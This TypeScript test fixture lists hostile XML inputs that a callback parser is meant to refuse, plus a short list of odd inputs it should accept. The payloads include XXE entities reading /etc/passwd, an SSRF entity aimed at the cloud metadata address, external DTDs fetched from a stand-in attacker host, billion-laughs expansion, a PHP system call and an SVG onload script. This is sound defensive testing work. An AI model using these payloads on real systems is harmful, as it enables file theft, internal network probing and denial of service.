/** Wraps the true elements into a document that must be refused whole. Bytes where a text could not say it. */
export type Attack = readonly [name: string, make: (inner: string) => string | Uint8Array]

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const nested = (depth: number, inner: string) => `${'<a>'.repeat(depth)}${inner}${'</a>'.repeat(depth)}`
const utf16 = (text: string, swap: boolean) => {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le')
  return swap ? bytes.swap16() : bytes
}
const utf32 = (text: string) => Buffer.concat([...text].map((char) => Buffer.from([char.codePointAt(0) ?? 0, 0, 0, 0])))
const DECLARED = '<?xml version="1.0" encoding="UTF-8"?>'

const definitions: readonly Attack[] = [
  ['an entity of its own', (x) => `<!DOCTYPE xml [<!ENTITY a "b">]><xml>${x}<A>&a;</A></xml>`],
  ['an entity that nobody uses', (x) => `<!DOCTYPE xml [<!ENTITY a "b">]><xml>${x}</xml>`],
  ['a file', (x) => `<!DOCTYPE xml [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml>${x}<A>&a;</A></xml>`],
  ['an address', (x) => `<!DOCTYPE xml [<!ENTITY a SYSTEM "http://169.254.169.254/">]><xml>${x}<A>&a;</A></xml>`],
  ['a parameter entity', (x) => `<!DOCTYPE xml [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><xml>${x}</xml>`],
  ['a billion laughs', (x) => `<!DOCTYPE xml [<!ENTITY l0 "ha">${laughs}]><xml>${x}<A>&l9;</A></xml>`],
  [
    'one long entity often',
    (x) => `<!DOCTYPE xml [<!ENTITY a "${'a'.repeat(9000)}">]><xml>${x}${'&a;'.repeat(2000)}</xml>`,
  ],
  ['an entity of itself', (x) => `<!DOCTYPE xml [<!ENTITY a "&a;">]><xml>${x}<A>&a;</A></xml>`],
  ['entities in a ring', (x) => `<!DOCTYPE xml [<!ENTITY a "&b;"><!ENTITY b "&a;">]><xml>${x}<A>&a;</A></xml>`],
  ['a bare document type', (x) => `<!DOCTYPE xml><xml>${x}</xml>`],
  ['a document type elsewhere', (x) => `<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml>${x}</xml>`],
  ['a public document type', (x) => `<!DOCTYPE xml PUBLIC "-//W3C//DTD" "http://evil.example/x"><xml>${x}</xml>`],
  ['a small document type', (x) => `<!doctype xml><xml>${x}</xml>`],
  ['a declared document type', (x) => `${DECLARED}<!DOCTYPE xml []><xml>${x}</xml>`],
  ['two document types', (x) => `<!DOCTYPE xml><!DOCTYPE xml [<!ENTITY a "b">]><xml>${x}</xml>`],
  ['a document type inside', (x) => `<xml><!DOCTYPE xml>${x}</xml>`],
  ['a document type afterwards', (x) => `<xml>${x}</xml><!DOCTYPE xml>`],
  ['attributes by default', (x) => `<!DOCTYPE xml [<!ATTLIST xml a CDATA "b">]><xml>${x}</xml>`],
  ['a notation', (x) => `<!DOCTYPE xml [<!NOTATION n SYSTEM "run">]><xml>${x}</xml>`],
  ['an element rule', (x) => `<!ELEMENT xml ANY><xml>${x}</xml>`],
  ['an included section', (x) => `<xml><![INCLUDE[${x}]]></xml>`],
  ['an ignored section', (x) => `<xml><![IGNORE[a]]>${x}</xml>`],
]

const references: readonly Attack[] = [
  ['an entity of HTML', (x) => `<xml>${x}<A>&nbsp;</A></xml>`],
  ['an entity without its end', (x) => `<xml>${x}<A>&amp</A></xml>`],
  ['a lone ampersand', (x) => `<xml>${x}<A>a & b</A></xml>`],
  ['an entity in capitals', (x) => `<xml>${x}<A>&AMP;</A></xml>`],
  ['an entity in an entity', (x) => `<xml>${x}<A>&&amp;;</A></xml>`],
  ['character 0', (x) => `<xml>${x}<A>&#0;</A></xml>`],
  ['character 0 in hex', (x) => `<xml>${x}<A>&#x00;</A></xml>`],
  ['half a character', (x) => `<xml>${x}<A>&#xD800;</A></xml>`],
  ['the other half', (x) => `<xml>${x}<A>&#57343;</A></xml>`],
  ['a character beyond the last', (x) => `<xml>${x}<A>&#x110000;</A></xml>`],
  ['a character far beyond', (x) => `<xml>${x}<A>&#99999999999;</A></xml>`],
  ['a character below zero', (x) => `<xml>${x}<A>&#-1;</A></xml>`],
  ['a character without number', (x) => `<xml>${x}<A>&#x;</A></xml>`],
  ['a character in science', (x) => `<xml>${x}<A>&#1e3;</A></xml>`],
  ['hex with a capital X', (x) => `<xml>${x}<A>&#X41;</A></xml>`],
]

const instructions: readonly Attack[] = [
  ['a stylesheet', (x) => `<?xml-stylesheet href="http://evil.example/x.xsl"?><xml>${x}</xml>`],
  ['a script of PHP', (x) => `<xml>${x}<?php system('id') ?></xml>`],
  ['two declarations', (x) => `${DECLARED}${DECLARED}<xml>${x}</xml>`],
  ['a declaration inside', (x) => `<xml>${DECLARED}${x}</xml>`],
  ['a declaration afterwards', (x) => `<xml>${x}</xml>${DECLARED}`],
  ['a declaration without end', (x) => `<?xml version="1.0"<xml>${x}</xml>`],
  ['a comment before', (x) => `<!-- a --><xml>${x}</xml>`],
  ['a comment inside', (x) => `<xml><!-- a -->${x}</xml>`],
  ['a comment afterwards', (x) => `<xml>${x}</xml><!-- a -->`],
  ['a comment with dashes', (x) => `<xml><!-- a -- b -->${x}</xml>`],
  ['a comment without end', (x) => `<xml>${x}<!-- a </xml>`],
  ['a comment that cuts an id', (x) => `<xml>${x}<UserID>wang<!-- -->min</UserID></xml>`],
]

const sections: readonly Attack[] = [
  ['CDATA without end', (x) => `<xml>${x}<A><![CDATA[a</A></xml>`],
  ['the end of a CDATA alone', (x) => `<xml>${x}<A>a]]></A></xml>`],
  ['CDATA before the root', (x) => `<![CDATA[a]]><xml>${x}</xml>`],
  ['CDATA behind the root', (x) => `<xml>${x}</xml><![CDATA[a]]>`],
  ['CDATA in small letters', (x) => `<xml>${x}<A><![cdata[a]]></A></xml>`],
  ['CDATA in CDATA', (x) => `<xml>${x}<A><![CDATA[a<![CDATA[b]]>c]]></A></xml>`],
  ['CDATA in a name', (x) => `<xml>${x}<A<![CDATA[a]]>>b</A></xml>`],
  ['CDATA with a gap', (x) => `<xml>${x}<A><! [CDATA[a]]></A></xml>`],
]

const shapes: readonly Attack[] = [
  ['an attribute', (x) => `<xml a="b">${x}</xml>`],
  ['an attribute of 30 KB', (x) => `<xml a="${'a'.repeat(30_000)}">${x}</xml>`],
  ['a thousand attributes', (x) => `<xml ${Array.from({ length: 1000 }, (_, n) => `a${n}="b"`).join(' ')}>${x}</xml>`],
  ['one attribute twice', (x) => `<xml a="b" a="c">${x}</xml>`],
  ['a namespace', (x) => `<xml xmlns="http://evil.example/">${x}</xml>`],
  ['a prefix', (x) => `<a:xml xmlns:a="http://evil.example/">${x}</a:xml>`],
  ['a colon in a name', (x) => `<xml>${x}<a:b>c</a:b></xml>`],
  ['an inclusion', (x) => `<xml>${x}<xi:include href="file:///etc/passwd"/></xml>`],
  ['SOAP', (x) => `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/"><s:Body><xml>${x}</xml></s:Body></s:Envelope>`],
  ['a picture that runs', (x) => `<svg onload="alert(1)">${x}</svg>`],
  ['eight below the root', (x) => `<xml>${x}${nested(8, 'a')}</xml>`],
  ['three thousand deep', (x) => `<xml>${x}${nested(3000, 'a')}</xml>`],
  ['deep without end', (x) => `<xml>${x}${'<a>'.repeat(8000)}`],
  ['two roots', (x) => `<xml>${x}</xml><xml>${x}</xml>`],
  ['text before', (x) => `a<xml>${x}</xml>`],
  ['text behind', (x) => `<xml>${x}</xml>a`],
  ['text between', (x) => `<xml>a${x}</xml>`],
  ['no end', (x) => `<xml>${x}`],
  ['another end', (x) => `<xml>${x}</xmm>`],
  ['an end in capitals', (x) => `<xml>${x}</XML>`],
  ['an end too many', (x) => `<xml>${x}</xml></xml>`],
  ['an end alone', () => '</xml>'],
  ['an end with an attribute', (x) => `<xml>${x}</xml a="b">`],
  ['crossed elements', (x) => `<xml>${x}<a><b></a></b></xml>`],
  ['nothing', () => ''],
  ['blanks', () => ' \r\n\t '],
  ['a declaration alone', () => DECLARED],
  ['a name with a number first', (x) => `<xml>${x}<1a>b</1a></xml>`],
  ['a name in Chinese', (x) => `<xml>${x}<客户>b</客户></xml>`],
  ['a gap before a name', (x) => `< xml>${x}</xml>`],
  ['no name', (x) => `<xml>${x}<></></xml>`],
  ['a gap in the empty sign', (x) => `<xml>${x}<a/ ></xml>`],
  ['a name of 20 KB with a hole', (x) => `<xml>${x}<${'a'.repeat(20_000)} b>`],
  ['thousands of opening signs', (x) => `<xml>${x}${'<'.repeat(20_000)}</xml>`],
]

const encodings: readonly Attack[] = [
  ['a NUL in a text', (x) => `<xml>${x}<A>a\0b</A></xml>`],
  ['a NUL in a name', (x) => `<xml>${x}<A\0>a</A\0></xml>`],
  ['a NUL behind', (x) => `<xml>${x}</xml>\0`],
  ['a NUL in CDATA', (x) => `<xml>${x}<A><![CDATA[\0]]></A></xml>`],
  ['UTF-16', (x) => utf16(`<xml>${x}</xml>`, false)],
  ['UTF-16 the other way', (x) => utf16(`<xml>${x}</xml>`, true)],
  ['UTF-32', (x) => utf32(`<xml>${x}</xml>`)],
  ['UTF-7', (x) => `<?xml version="1.0" encoding="UTF-7"?>+ADw-xml+AD4-${x}+ADw-/xml+AD4-`],
  ['EBCDIC', () => Buffer.from([0x4c, 0xa7, 0x94, 0x93, 0x6e, 0x4c, 0x61, 0xa7, 0x94, 0x93, 0x6e])],
  ['a sign written too long', (x) => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(`xml>${x}</xml>`)])],
  [
    'broken UTF-8 in a name',
    (x) => Buffer.concat([Buffer.from('<x'), Buffer.from([0xff]), Buffer.from(`ml>${x}</xml>`)]),
  ],
  ['wide brackets', (x) => `＜xml＞${x}＜/xml＞`],
  ['random bytes', () => Buffer.from(Array.from({ length: 4000 }, (_, n) => (n * 197 + 31) % 256))],
]

export const XML_ATTACKS: readonly Attack[] = [
  ...definitions,
  ...references,
  ...instructions,
  ...sections,
  ...shapes,
  ...encodings,
]

/** Odd and yet what the rules of the callbacks allow: kept to the letter, and nothing in it is carried out. */
export const ODD_BUT_FINE: readonly Attack[] = [
  ['a mark of order', (x) => `\uFEFF<xml>${x}</xml>`],
  ['two marks of order', (x) => `\uFEFF\uFEFF<xml>${x}</xml>`],
  ['a mark of order inside a tag', (x) => `<xml\uFEFF>${x}</xml>`],
  ['another declared encoding', (x) => `<?xml version="1.0" encoding="GBK"?><xml>${x}</xml>`],
  [
    'a document type inside CDATA',
    (x) => `<xml>${x}<A><![CDATA[<!DOCTYPE a [<!ENTITY b SYSTEM "file:///">]>]]></A></xml>`,
  ],
  ['seven below the root', (x) => `<xml>${x}${nested(7, 'a')}</xml>`],
  ['the sign of an entity twice escaped', (x) => `<xml>${x}<A>&amp;amp;lt;</A></xml>`],
  ['names of the language', (x) => `<xml>${x}<__proto__>a</__proto__><constructor>b</constructor></xml>`],
  ['ten thousand empty elements', (x) => `<xml>${x}${'<a/>'.repeat(9000)}</xml>`],
]
